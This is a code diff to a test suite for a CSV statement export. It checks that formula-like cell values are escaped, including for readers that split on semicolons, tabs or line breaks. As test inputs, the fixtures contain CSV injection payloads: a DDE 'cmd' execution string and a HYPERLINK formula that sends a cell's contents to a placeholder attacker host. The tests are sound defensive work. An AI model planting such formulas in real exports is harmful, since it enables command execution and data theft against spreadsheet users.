@@ -668,6 +668,8 @@ describe("GET /statements format=csv", () => {
       "-",
       "refund\n=cmd|' /C calc'!A0",
       "a\rb",
+      "refund;=1+2",
+      'refund;=HYPERLINK("http://evil.example/"&A1,"click")',
     ];
     for (const [i, note] of notes.entries())
       await move(
@@ -693,9 +695,19 @@ describe("GET /statements format=csv", () => {
       "'\rx",
       'a,"b"\r\nc',
       "'-",
-      "refund\n=cmd|' /C calc'!A0",
+      "refund\n'=cmd|' /C calc'!A0",
       "a\rb",
+      "refund;'=1+2",
+      'refund;\'=HYPERLINK("http://evil.example/"&A1,"click")',
     ]);
+    // Read as Excel reads a .csv where the list separator is `;` (de-DE, fr-FR, nl-NL): quotes that
+    // do not open a cell are text, so `;` and line breaks inside them split cells and rows too.
+    const semicolonCells = parse(res.text, {
+      delimiter: ";",
+      relax_quotes: true,
+      relax_column_count: true,
+    }) as string[][];
+    expect(semicolonCells.flat().filter((cell) => /^[=+\-@\t\r\0]/.test(cell))).toEqual([]);
     // A lone LF or CR is quoted too: a reader that ends rows at either (Python's csv, spreadsheets)
     // must not start a row whose first cell is the rest of a note, unguarded.
     const unquoted = res.text.replaceAll(/"(?:[^"]|"")*"/g, "").replaceAll("\r\n", "");
@@ -841,6 +853,15 @@ describe("CSV cells", () => {
     for (const text of ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "-"])
       expect(textCell(text)).toBe(`'${text}`);
     for (const text of ["", "rent", " =1", "1-2", "'=x", "a=b"]) expect(textCell(text)).toBe(text);
+  });
+
+  it("quote a formula where a reader splitting at ';', a tab or a line break starts a cell", () => {
+    expect(textCell("refund;=1+2")).toBe("refund;'=1+2");
+    expect(textCell("a\t-1;@b")).toBe("a\t'-1;'@b");
+    expect(textCell("a\t\t=1")).toBe("a\t'\t'=1");
+    expect(textCell("line\r\n=1+2\n+3")).toBe("line\r\n'=1+2\n'+3");
+    expect(textCell("=a;=b")).toBe("'=a;'=b");
+    for (const text of ["a; =1", "a;b=1", "a,=1", "1;2"]) expect(textCell(text)).toBe(text);
   });
 
   it("prefix a text cell that begins with a NUL, which a reader may drop before a formula (ASVS 5 V1.2.10)", () => {
